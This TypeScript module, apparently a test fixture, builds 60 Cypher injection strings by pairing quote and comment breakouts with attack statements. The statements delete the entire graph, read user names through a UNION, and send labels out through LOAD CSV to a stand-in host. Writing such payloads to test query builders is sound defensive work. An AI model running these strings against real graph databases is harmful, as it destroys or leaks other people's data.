/** What ends a text, a name or a comment in some dialect of Cypher. */
const BREAKOUTS = [
  "'",
  '"',
  '`',
  "\\'",
  '\\u0027',
  '\\u0060',
  "'}) ",
  "'] ",
  '*/ ',
  '// \n',
  '$(',
  "') WITH 1 AS one ",
] as const

/** What an attacker would run. */
const STATEMENTS = [
  'MATCH (n) DETACH DELETE n //',
  'CREATE (:Pwned {id: 1}) //',
  'OR 1=1 RETURN 1 UNION MATCH (u:User) RETURN u.name //',
  "CALL db.labels() YIELD label LOAD CSV FROM 'http://127.0.0.1:9/' + label AS row RETURN 1 //",
  'SET n.name = null REMOVE n:User //',
] as const

/** 60 texts that would change or read the graph if a query were put together from texts. */
export const CYPHER_PAYLOADS: readonly string[] = BREAKOUTS.flatMap((breakout) =>
  STATEMENTS.map((statement) => `${breakout}${statement}`),
)
